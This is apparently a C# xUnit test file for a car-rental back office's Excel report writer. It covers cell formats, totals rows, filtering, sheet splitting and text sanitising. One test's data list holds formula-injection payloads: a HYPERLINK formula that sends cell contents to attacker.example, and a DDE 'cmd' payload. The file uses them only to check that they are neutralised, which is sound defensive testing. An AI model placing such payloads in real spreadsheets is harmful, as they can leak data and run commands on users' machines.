using System.Globalization;
using System.Text.RegularExpressions;
using ClosedXML.Excel;
using CarRentalGateway.BackOffice.Features.Reports.Excel;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Validation;

namespace CarRentalGateway.BackOffice.Tests.Features.Reports;

public sealed class ExcelReportWriterTests
{
    private sealed record Line(string Reference, string Customer, string Status, decimal Total, long Days, decimal Share,
        DateOnly PickUpDay, DateTime PickUp, bool Prepaid, string? Note = null);

    private static readonly ReportColumns<Line> LineColumns = new ReportColumns<Line>()
        .Text("Reference", 14, l => l.Reference)
        .Text("Customer", 28, l => l.Customer)
        .Text("Status", 12, l => l.Status)
        .Money("Total", 13, l => l.Total, total: true)
        .WholeNumber("Days", 8, l => l.Days, total: true)
        .Percent("Share", 9, l => l.Share)
        .Date("Pick-up day", 12, l => l.PickUpDay)
        .DateTime("Pick-up (local)", 17, l => l.PickUp)
        .Boolean("Prepaid", 9, l => l.Prepaid)
        .Text("Note", 30, l => l.Note);

    private static readonly ReportHeading Heading = new(
        "Bookings export", "Pick-up 2026-10-01 to 2026-10-31", ["Status: Confirmed", "Supplier: SIXT-EE"], new DateTime(2026, 11, 28, 9, 30, 0));

    private static readonly Line[] Lines =
    [
        new("CRG-7F3K9Q", "Mari Tamm", "Confirmed", 1234.5m, 3, 0.125m, new DateOnly(2026, 10, 1), new DateTime(2026, 10, 1, 9, 15, 0), true, "Late flight"),
        new("CRG-8H2M4P", "Jaan Kask", "Cancelled", 99.99m, 7, 0.2m, new DateOnly(2026, 10, 12), new DateTime(2026, 10, 12, 18, 0, 0), false),
        new("CRG-9J5N6R", "Anna Lepp", "Confirmed", 10m, 1, 0m, new DateOnly(2026, 10, 31), new DateTime(2026, 10, 31, 23, 59, 0), true),
    ];

    private const int Header = 4;
    private const int FirstData = 5;

    [Fact]
    public void Cells_are_typed_and_formatted_by_their_column_kind()
    {
        using var workbook = ReadBack(Write(Lines));
        var sheet = workbook.Worksheet("Bookings");
        var first = sheet.Row(FirstData);

        Assert.Equal(XLDataType.Text, first.Cell(1).DataType);
        Assert.Equal("CRG-7F3K9Q", first.Cell(1).GetString());
        Assert.Equal(XLDataType.Number, first.Cell(4).DataType);
        Assert.Equal(1234.5m, first.Cell(4).GetValue<decimal>());
        Assert.Equal("#,##0.00", first.Cell(4).Style.NumberFormat.Format);
        Assert.Equal(3, first.Cell(5).GetValue<long>());
        Assert.Equal("#,##0", first.Cell(5).Style.NumberFormat.Format);
        Assert.Equal(0.125m, first.Cell(6).GetValue<decimal>());
        Assert.Equal("0.00%", first.Cell(6).Style.NumberFormat.Format);
        Assert.Equal(XLDataType.DateTime, first.Cell(7).DataType);
        Assert.Equal(new DateTime(2026, 10, 1), first.Cell(7).GetDateTime());
        Assert.Equal("yyyy-mm-dd", first.Cell(7).Style.DateFormat.Format);
        Assert.Equal(XLDataType.DateTime, first.Cell(8).DataType);
        Assert.Equal(new DateTime(2026, 10, 1, 9, 15, 0), first.Cell(8).GetDateTime());
        Assert.Equal("yyyy-mm-dd hh:mm", first.Cell(8).Style.DateFormat.Format);
        Assert.Equal(XLDataType.Boolean, first.Cell(9).DataType);
        Assert.True(first.Cell(9).GetBoolean());
        Assert.False(sheet.Row(FirstData + 1).Cell(9).GetBoolean());
        Assert.True(sheet.Row(FirstData + 1).Cell(10).IsEmpty());
        Assert.Equal(new DateTime(2026, 10, 31, 23, 59, 0), sheet.Row(FirstData + 2).Cell(8).GetDateTime());
    }

    [Fact]
    public void Each_sheet_has_a_title_a_generation_time_and_a_frozen_filtered_header()
    {
        using var workbook = ReadBack(Write(Lines));
        var sheet = workbook.Worksheet("Bookings");

        Assert.Equal("Bookings export · Pick-up 2026-10-01 to 2026-10-31 · Status: Confirmed; Supplier: SIXT-EE", sheet.Cell(1, 1).GetString());
        Assert.Equal("Generated 2026-11-28 09:30 UTC", sheet.Cell(2, 1).GetString());
        Assert.Equal(["Reference", "Customer", "Status", "Total", "Days", "Share", "Pick-up day", "Pick-up (local)", "Prepaid", "Note"],
            sheet.Row(Header).Cells(1, 10).Select(c => c.GetString()));
        Assert.True(sheet.Row(Header).Cell(1).Style.Font.Bold);
        Assert.Equal(Header, sheet.SheetView.SplitRow);
        Assert.Equal(0, sheet.SheetView.SplitColumn);
        Assert.Equal("A4:J7", sheet.AutoFilter.Range.RangeAddress.ToString());
        Assert.Equal([14, 28, 12, 13, 8, 9, 12, 17, 9, 30], Enumerable.Range(1, 10).Select(c => Math.Round(sheet.Column(c).Width, 2)));
    }

    [Fact]
    public void The_totals_row_sums_the_visible_rows_with_its_cached_values_below_the_filtered_range()
    {
        using var workbook = ReadBack(Write(Lines));
        var sheet = workbook.Worksheet("Bookings");
        var totals = sheet.Row(FirstData + Lines.Length);

        Assert.Equal("Total", totals.Cell(1).GetString());
        Assert.Equal("SUBTOTAL(109,D5:D7)", totals.Cell(4).FormulaA1);
        Assert.Equal("SUBTOTAL(109,E5:E7)", totals.Cell(5).FormulaA1);
        Assert.Equal(1344.49m, Convert.ToDecimal(totals.Cell(4).CachedValue, CultureInfo.InvariantCulture));
        Assert.Equal(11m, Convert.ToDecimal(totals.Cell(5).CachedValue, CultureInfo.InvariantCulture));
        Assert.Equal("#,##0.00", totals.Cell(4).Style.NumberFormat.Format);
        Assert.True(totals.Cell(4).Style.Font.Bold);
        Assert.False(totals.Cell(6).HasFormula);
        Assert.Equal(FirstData + Lines.Length - 1, sheet.AutoFilter.Range.LastRow().RowNumber());
    }

    // ClosedXML 0.95.4 cannot evaluate SUBTOTAL(109, …), so this applies the filter and sums what the formula names
    // as Excel does: the visible cells of its range. The range must be the data rows exactly, never title or totals.
    [Fact]
    public void Filtering_the_table_leaves_the_totals_summing_only_the_rows_still_shown()
    {
        using var workbook = ReadBack(Write(Lines));
        var sheet = workbook.Worksheet("Bookings");
        var totals = sheet.Row(FirstData + Lines.Length);

        sheet.AutoFilter.Column(3).EqualTo("Confirmed");

        Assert.True(sheet.Row(FirstData + 1).IsHidden);
        Assert.False(totals.IsHidden);
        Assert.Equal(1244.5m, VisibleSum(sheet, totals.Cell(4).FormulaA1));
        Assert.Equal(4m, VisibleSum(sheet, totals.Cell(5).FormulaA1));
    }

    private static decimal VisibleSum(IXLWorksheet sheet, string formula)
    {
        var match = Regex.Match(formula, @"^SUBTOTAL\(109,([A-Z]+[0-9]+:[A-Z]+[0-9]+)\)$");
        Assert.True(match.Success, formula);
        return sheet.Range(match.Groups[1].Value).Cells().Where(c => !c.WorksheetRow().IsHidden).Sum(c => c.GetValue<decimal>());
    }

    [Fact]
    public void A_workbook_holds_several_sheets_in_the_order_they_were_added()
    {
        var summaryColumns = new ReportColumns<(string Item, decimal Amount)>()
            .Text("Item", 30, s => s.Item)
            .Money("Amount", 14, s => s.Amount);
        using var output = new MemoryStream();
        using (var writer = ExcelReportWriter.Create(output))
        {
            Assert.Equal(2, writer.AddSheet("Summary", Heading, summaryColumns, [("Customer total", 1344.49m), ("Commission due", 201.67m)]));
            Assert.Equal(3, writer.AddSheet("Lines", Heading, LineColumns, Lines));
        }

        AssertValid(output.ToArray());
        using var workbook = ReadBack(output.ToArray());
        Assert.Equal(["Summary", "Lines"], workbook.Worksheets.Select(s => s.Name));
        Assert.Equal(201.67m, workbook.Worksheet("Summary").Cell(FirstData + 1, 2).GetValue<decimal>());
        Assert.Equal("A4:B6", workbook.Worksheet("Summary").AutoFilter.Range.RangeAddress.ToString());
        Assert.Equal("A4:J7", workbook.Worksheet("Lines").AutoFilter.Range.RangeAddress.ToString());
        Assert.True(workbook.Worksheet("Summary").Row(FirstData + 2).IsEmpty());
    }

    [Fact]
    public async Task Rows_streamed_from_an_async_source_are_written_like_any_other()
    {
        using var output = new MemoryStream();
        using (var writer = ExcelReportWriter.Create(output))
        {
            Assert.Equal(3, await writer.AddSheetAsync("Bookings", Heading, LineColumns, Lines.ToAsyncEnumerable(), CancellationToken.None));
        }

        using var workbook = ReadBack(output.ToArray());
        Assert.Equal("CRG-9J5N6R", workbook.Worksheet("Bookings").Cell(FirstData + 2, 1).GetString());
    }

    [Fact]
    public void An_empty_table_still_has_its_header_filter_and_zero_totals()
    {
        var bytes = Write([]);

        AssertValid(bytes);
        using var workbook = ReadBack(bytes);
        var sheet = workbook.Worksheet("Bookings");
        Assert.Equal("Reference", sheet.Cell(Header, 1).GetString());
        Assert.Equal("A4:J4", sheet.AutoFilter.Range.RangeAddress.ToString());
        Assert.Equal("Total", sheet.Cell(FirstData, 1).GetString());
        Assert.Equal(0m, sheet.Cell(FirstData, 4).GetValue<decimal>());
        Assert.False(sheet.Cell(FirstData, 4).HasFormula);
        Assert.Equal(Header, sheet.SheetView.SplitRow);
    }

    public static TheoryData<string> HostileTexts =>
    [
        "=1+1",
        "+SUM(A1)",
        "-2",
        "@cmd",
        "\tx",
        "\rx",
        "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")",
        "=cmd|' /C calc'!A0",
    ];

    [Theory]
    [MemberData(nameof(HostileTexts))]
    public void Hostile_text_in_every_text_column_stays_literal_text_with_a_quote_prefix(string hostile)
    {
        Line[] lines = [Sample(hostile, hostile, hostile, hostile)];
        var bytes = Write(lines);

        AssertValid(bytes);
        using var workbook = ReadBack(bytes);
        var sheet = workbook.Worksheet("Bookings");
        foreach (var column in new[] { 1, 2, 3, 10 })
        {
            var cell = sheet.Cell(FirstData, column);
            Assert.False(cell.HasFormula);
            Assert.Equal(XLDataType.Text, cell.DataType);
            Assert.Equal(hostile, cell.GetString());
            Assert.True(cell.Style.IncludeQuotePrefix);
        }
    }

    [Fact]
    public void Ordinary_text_gets_no_quote_prefix_and_keeps_its_spaces_and_line_breaks()
    {
        Line[] lines = [Sample(customer: "  Mari Tamm ", note: "line one\r\nline two")];
        using var workbook = ReadBack(Write(lines));
        var sheet = workbook.Worksheet("Bookings");

        Assert.False(sheet.Cell(FirstData, 1).Style.IncludeQuotePrefix);
        Assert.Equal("  Mari Tamm ", sheet.Cell(FirstData, 2).GetString());
        Assert.Equal("line one\r\nline two", sheet.Cell(FirstData, 10).GetString());
    }

    [Fact]
    public void Characters_xml_cannot_carry_are_dropped_and_the_rest_of_the_text_kept()
    {
        var note = "a\u0000b\u0001c\u000Bd\u001Fe\uFFFEf\uD800g 😀";
        Line[] lines = [Sample(customer: "Mari\u0007 Tamm", note: note)];
        var bytes = Write(lines);

        AssertValid(bytes);
        using var workbook = ReadBack(bytes);
        var sheet = workbook.Worksheet("Bookings");
        Assert.Equal("Mari Tamm", sheet.Cell(FirstData, 2).GetString());
        Assert.Equal("abcdefg 😀", sheet.Cell(FirstData, 10).GetString());
    }

    // Excel decodes _xHHHH_ in cell text ("_x0041_" would show as "A"); the standard escapes such an underscore as
    // _x005F_. ClosedXML 0.95.4 does not decode that escape, so the stored text is checked as written.
    [Fact]
    public void Text_that_looks_like_excels_character_escape_has_its_underscore_escaped()
    {
        Line[] lines = [Sample(customer: "Mari_x0041_Tamm", note: "a_b_x12_")];
        using var document = SpreadsheetDocument.Open(new MemoryStream(Write(lines)), false);
        var texts = document.WorkbookPart!.WorksheetParts.Single().Worksheet.Descendants<DocumentFormat.OpenXml.Spreadsheet.Text>().Select(t => t.Text).ToList();

        Assert.Contains("Mari_x005F_x0041_Tamm", texts);
        Assert.Contains("a_b_x12_", texts);
    }

    [Fact]
    public void Text_longer_than_a_cell_holds_is_cut_at_excels_limit()
    {
        Line[] lines = [Sample(note: new string('x', 40_000))];
        var bytes = Write(lines);

        AssertValid(bytes);
        using var workbook = ReadBack(bytes);
        Assert.Equal(32_767, workbook.Worksheet("Bookings").Cell(FirstData, 10).GetString().Length);
    }

    [Fact]
    public void The_produced_file_passes_the_open_xml_validator()
    {
        AssertValid(Write(Lines));
    }

    [Theory]
    [InlineData("")]
    [InlineData("A name longer than thirty-one characters")]
    [InlineData("Lines/October")]
    [InlineData("'Quoted'")]
    public void A_sheet_name_excel_would_refuse_is_rejected(string name)
    {
        using var output = new MemoryStream();
        var writer = ExcelReportWriter.Create(output);
        Assert.Throws<ArgumentException>(() => writer.AddSheet(name, Heading, LineColumns, Lines));
    }

    [Fact]
    public void Two_sheets_cannot_share_a_name()
    {
        using var output = new MemoryStream();
        var writer = ExcelReportWriter.Create(output);
        writer.AddSheet("Lines", Heading, LineColumns, Lines);
        Assert.Throws<ArgumentException>(() => writer.AddSheet("LINES", Heading, LineColumns, Lines));
    }

    private static Line Sample(string reference = "CRG-7F3K9Q", string customer = "Mari Tamm", string status = "Confirmed", string? note = null) =>
        new(reference, customer, status, 1m, 1, 0m, new DateOnly(2026, 10, 1), new DateTime(2026, 10, 1), true, note);

    [Fact]
    public async Task Rows_beyond_what_a_sheet_holds_go_on_in_numbered_sheets_each_with_its_header_and_totals()
    {
        var lines = Enumerable.Range(0, 5).Select(i => Lines[0] with { Reference = $"CRG-{i}", Total = i + 1 }).ToList();
        using var output = new MemoryStream();
        int written;
        using (var writer = ExcelReportWriter.Create(output, rowsPerSheet: 2))
        {
            written = await writer.AddSheetsAsync("Bookings", Heading, LineColumns, lines.ToAsyncEnumerable(), CancellationToken.None);
        }

        AssertValid(output.ToArray());
        using var workbook = ReadBack(output.ToArray());
        Assert.Equal(5, written);
        Assert.Equal(["Bookings", "Bookings 2", "Bookings 3"], workbook.Worksheets.Select(s => s.Name));
        Assert.Equal(
            [["CRG-0", "CRG-1"], ["CRG-2", "CRG-3"], ["CRG-4"]],
            workbook.Worksheets.Select(sheet => sheet.Column(1).CellsUsed().Select(c => c.GetString()).Where(t => t.StartsWith("CRG-")).ToArray()));
        Assert.All(workbook.Worksheets, sheet => Assert.Equal("Reference", sheet.Cell(Header, 1).GetString()));
        Assert.Equal([3m, 7m, 5m], workbook.Worksheets.Select(sheet =>
            Convert.ToDecimal(sheet.Column(4).CellsUsed().Last().CachedValue, CultureInfo.InvariantCulture)));
    }

    private static byte[] Write(IEnumerable<Line> lines)
    {
        using var output = new MemoryStream();
        using (var writer = ExcelReportWriter.Create(output))
        {
            writer.AddSheet("Bookings", Heading, LineColumns, lines);
        }

        return output.ToArray();
    }

    private static XLWorkbook ReadBack(byte[] bytes) => new(new MemoryStream(bytes));

    private static void AssertValid(byte[] bytes)
    {
        using var document = SpreadsheetDocument.Open(new MemoryStream(bytes), false);
        var errors = new OpenXmlValidator().Validate(document).Select(e => $"{e.Path?.XPath}: {e.Description}").ToList();
        Assert.Empty(errors);
    }
}
